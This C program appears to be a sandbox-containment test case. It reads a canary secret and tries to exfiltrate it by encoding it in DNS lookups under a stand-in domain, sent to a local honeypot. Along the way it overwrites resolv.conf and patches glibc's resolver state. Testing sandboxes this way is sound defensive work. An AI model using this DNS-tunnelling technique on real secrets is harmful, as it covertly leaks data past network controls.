/* net.dns.libc_resolver — catalog N03. Exfiltration through the C library's own resolver, the way ordinary
 * code leaks: getaddrinfo / gethostbyname of <nonce>.<secret>.exfil.gauntlet.invalid. The sandbox has no
 * /etc/resolv.conf, so glibc falls back to 127.0.0.1:53; the attack also tries to plant its own resolv.conf
 * (in /etc, which must fail, and in /tmp), sets RES_OPTIONS/LOCALDOMAIN, and then writes its own resolver
 * configuration into the libc resolver state (_res.nsaddr_list = 127.0.0.1:{dns_port}, over UDP and, with
 * RES_USEVC, TCP) before res_query/res_search. Args: dns_port nonce canary_file canary_fd */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 5) return 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    int dport = atoi(argv[1]);
    const char *nonce = argv[2];
    char secret[64] = "none";
    unsigned char buf[40];
    ssize_t n = -1;
    int fd = open(argv[3], O_RDONLY);
    if (fd >= 0) { n = read(fd, buf, 30); close(fd); }
    if (n <= 0) n = pread(atoi(argv[4]), buf, 30, 0);
    if (n > 0) for (ssize_t i = 0; i < n && i < 30; i++) sprintf(secret + 2 * i, "%02x", buf[i]);
    char name[256];

    /* 1. plant a resolv.conf */
    const char *conf[] = {"/etc/resolv.conf", "/tmp/resolv.conf"};
    for (int i = 0; i < 2; i++) {
        int w = open(conf[i], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (w >= 0) {
            dprintf(w, "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n");
            close(w);
            printf("wrote %s\n", conf[i]);
        } else {
            printf("write %s: %s\n", conf[i], strerror(errno));
        }
    }
    setenv("RES_OPTIONS", "timeout:1 attempts:1", 1);
    setenv("LOCALDOMAIN", "exfil.gauntlet.invalid", 1);

    /* 2. hand-written resolver configuration pointing at the DNS honeypot port */
    if (res_init() != 0) printf("res_init failed\n");
    _res.nscount = 1;
    _res.nsaddr_list[0].sin_family = AF_INET;
    _res.nsaddr_list[0].sin_port = htons((uint16_t)dport);
    _res.nsaddr_list[0].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    _res.retrans = 1;
    _res.retry = 1;
    unsigned char ans[512];
    snprintf(name, sizeof name, "%s.%s.resq.gauntlet.invalid", nonce, secret);
    int q = res_query(name, C_IN, T_TXT, ans, sizeof ans);
    printf("res_query TXT via 127.0.0.1:%d (udp): %s\n", dport, q >= 0 ? "ANSWERED" : hstrerror(h_errno));
    q = res_search(name, C_IN, T_A, ans, sizeof ans);
    printf("res_search A via 127.0.0.1:%d (udp): %s\n", dport, q >= 0 ? "ANSWERED" : hstrerror(h_errno));
    _res.options |= RES_USEVC;
    q = res_query(name, C_IN, T_A, ans, sizeof ans);
    printf("res_query A via 127.0.0.1:%d (tcp): %s\n", dport, q >= 0 ? "ANSWERED" : hstrerror(h_errno));
    /* 3. getaddrinfo and gethostbyname (default server 127.0.0.1:53) */
    snprintf(name, sizeof name, "%s.%s.gai.gauntlet.invalid", nonce, secret);
    struct addrinfo hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM}, *res = NULL;
    int r = getaddrinfo(name, "80", &hints, &res);
    printf("getaddrinfo(%s): %s\n", name, r ? gai_strerror(r) : "RESOLVED");
    if (!r) freeaddrinfo(res);
    snprintf(name, sizeof name, "%s.%s.ghbn.gauntlet.invalid", nonce, secret);
    struct hostent *h = gethostbyname(name);
    printf("gethostbyname: %s\n", h ? "RESOLVED" : hstrerror(h_errno));

    /* and once more through getaddrinfo with the patched state */
    res_init();
    _res.nscount = 1;
    _res.nsaddr_list[0].sin_port = htons((uint16_t)dport);
    _res.nsaddr_list[0].sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    snprintf(name, sizeof name, "%s.%s.gai2.gauntlet.invalid", nonce, secret);
    r = getaddrinfo(name, NULL, &hints, &res);
    printf("getaddrinfo with patched _res: %s\n", r ? gai_strerror(r) : "RESOLVED");
    if (!r) freeaddrinfo(res);
    return 0;
}
